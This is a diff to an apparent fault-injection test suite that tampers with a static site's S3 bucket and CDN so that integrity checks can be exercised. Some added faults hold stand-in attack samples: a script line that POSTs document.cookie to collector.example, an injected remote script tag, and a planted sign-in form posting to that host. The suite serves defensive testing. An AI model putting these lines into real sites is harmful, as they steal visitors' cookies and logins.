@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+import time
 import uuid
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -65,19 +66,19 @@ def no_page_for_deep_links(bench: Bench) -> Iterator[None]:
         yield
 
 
-@fault("CDN-15", "browsers may keep the page for an hour")
+@fault("CDN-15", "browsers may keep the page for an hour", relatives={"CDN-16"})
 def kept_page(bench: Bench) -> Iterator[None]:
     with _stored(bench, "index.html", CacheControl="public, max-age=3600"):
         yield
 
 
-@fault("CDN-15", "browsers may keep a script of the page for a minute")
+@fault("CDN-15", "browsers may keep a script of the page for a minute", relatives={"CDN-16"})
 def short_lived_script(bench: Bench) -> Iterator[None]:
     with _stored(bench, _script(bench), CacheControl="public, max-age=60"):
         yield
 
 
-@fault("CDN-15", "a script that the page names is gone")
+@fault("CDN-15", "a script that the page names is gone", relatives={"CDN-16"})
 def lost_script(bench: Bench) -> Iterator[None]:
     key = _script(bench)
     with _stored(bench, key):
@@ -86,7 +87,7 @@ def lost_script(bench: Bench) -> Iterator[None]:
         yield
 
 
-@fault("CDN-15", "a script that the page names is in the cache alone")
+@fault("CDN-15", "a script that the page names is in the cache alone", relatives={"CDN-16"})
 def cached_script(bench: Bench) -> Iterator[None]:
     key = _script(bench)
     with _stored(bench, key):
@@ -96,7 +97,11 @@ def cached_script(bench: Bench) -> Iterator[None]:
         yield
 
 
-@fault("CDN-15", "no page was ever published", relatives={"CDN-09", "SEC-10", "SEC-12", "SEC-13"})
+@fault(
+    "CDN-15",
+    "no page was ever published",
+    relatives={"CDN-09", "CDN-16", "CDN-17", "SEC-10", "SEC-12", "SEC-13"},
+)
 def no_page(bench: Bench) -> Iterator[None]:
     client, bucket = bench.client("s3"), bench.physical(BUCKET)
     keys = bench.stack.site_bucket.keys("")
@@ -119,7 +124,7 @@ def no_page(bench: Bench) -> Iterator[None]:
         _forget(bench)
 
 
-@fault("CDN-15", "a source map lies beside the page's script")
+@fault("CDN-15", "a source map lies beside the page's script", relatives={"CDN-17"})
 def source_map(bench: Bench) -> Iterator[None]:
     client, bucket, key = bench.client("s3"), bench.physical(BUCKET), f"{_script(bench)}.map"
     client.put_object(Bucket=bucket, Key=key, Body=b"{}")
@@ -129,10 +134,95 @@ def source_map(bench: Bench) -> Iterator[None]:
         client.delete_object(Bucket=bucket, Key=key)
 
 
+# The page, held against what the commit builds
+
+
+@fault("CDN-16", "the page's script was replaced under its own name")
+def replaced_script(bench: Bench) -> Iterator[None]:
+    key = _script(bench)
+    sent = "fetch('https://collector.example/', {method: 'POST', body: document.cookie});"
+    with _stored(bench, key, Body=f"{_text(bench, key)}\n{sent}".encode()):
+        yield
+
+
+@fault("CDN-16", "the page loads one script more")
+def one_script_more(bench: Bench) -> Iterator[None]:
+    html = _text(bench, "index.html")
+    assert "</body>" in html, "the fault no longer fits: the page has no body"
+    more = html.replace("</body>", '<script src="https://collector.example/a.js"></script></body>')
+    with _stored(bench, "index.html", Body=more.encode()):
+        yield
+
+
+@fault("CDN-16", "a part that the page loads later has another type")
+def wrong_type(bench: Bench) -> Iterator[None]:
+    with _stored(bench, _later_part(bench), ContentType="text/plain"):
+        yield
+
+
+@fault("CDN-16", "a part that the page loads later is kept for a minute")
+def short_lived_part(bench: Bench) -> Iterator[None]:
+    with _stored(bench, _later_part(bench), CacheControl="public, max-age=60"):
+        yield
+
+
+@fault("CDN-16", "an icon is another picture")
+def other_icon(bench: Bench) -> Iterator[None]:
+    with _stored(bench, "favicon.svg", Body=b'<svg xmlns="http://www.w3.org/2000/svg"/>'):
+        yield
+
+
+@fault("CDN-16", "an edge still has a script that was replaced, and the bucket has the good one")
+def replaced_script_in_the_cache(bench: Bench) -> Iterator[None]:
+    client, bucket, key = bench.client("s3"), bench.physical(BUCKET), _later_part(bench)
+    good = _text(bench, key).encode()
+    with _stored(bench, key, Body=b"export default () => null;"):
+        site = Cdn(bench.env, urlsplit(bench.stack.formation.output("SiteUrl")).netloc)
+        assert site.get(f"/{key}").status == HTTPStatus.OK
+        head = client.head_object(Bucket=bucket, Key=key)
+        headers = {name: head[name] for name in ("ContentType", "CacheControl")}
+        client.put_object(Bucket=bucket, Key=key, Body=good, **headers)
+        yield
+
+
+def _later_part(bench: Bench) -> str:
+    """The key of a script that index.html does not name, and this build has."""
+    (part,) = (bench.checkout.app / "frontend" / "dist" / "assets").glob("GalleryPage-*.js")
+    return f"assets/{part.name}"
+
+
+@contextmanager
+def _beside(bench: Bench, key: str, body: bytes, content_type: str) -> Iterator[None]:
+    client, bucket = bench.client("s3"), bench.physical(BUCKET)
+    client.put_object(Bucket=bucket, Key=key, Body=body, ContentType=content_type)
+    try:
+        yield
+    finally:
+        client.delete_object(Bucket=bucket, Key=key)
+        _forget(bench)
+
+
+@fault("CDN-17", "somebody's page lies beside the page")
+def foreign_page(bench: Bench) -> Iterator[None]:
+    with _beside(bench, "account/sign-in.html", b"<form action=//collector.example>", "text/html"):
+        yield
+
+
+@fault("CDN-17", "a script lies beside the page's, named as a build would name it")
+def foreign_script(bench: Bench) -> Iterator[None]:
+    time.sleep(1.1)  # S3 tells when something was stored to the second
+    with _beside(bench, "assets/vendor-Bq3x9LkT.js", b"export {};", "text/javascript; charset=utf-8"):
+        yield
+
+
 # The page, as the images: what is claimed of the one bucket and distribution is claimed of the other
 
 
-@fault("CDN-01", "the page's distribution is disabled", relatives={"CDN-03", "CDN-09", "CDN-15", "SEC-13"})
+@fault(
+    "CDN-01",
+    "the page's distribution is disabled",
+    relatives={"CDN-03", "CDN-09", "CDN-15", "CDN-16", "SEC-13"},
+)
 def disabled_page(bench: Bench) -> Iterator[None]:
     with bench.distribution_changed(lambda configuration: configuration.update(Enabled=False), SITE):
         yield
@@ -194,7 +284,7 @@ def bare_page_headers(bench: Bench) -> Iterator[None]:
         yield
 
 
-@fault("SEC-13", "the page may talk to everybody")
+@fault("SEC-13", "the page may talk to everybody", relatives={"CDN-16"})
 def page_without_policy(bench: Bench) -> Iterator[None]:
     bare = re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", _text(bench, "index.html"))
     with _stored(bench, "index.html", Body=bare.encode()):
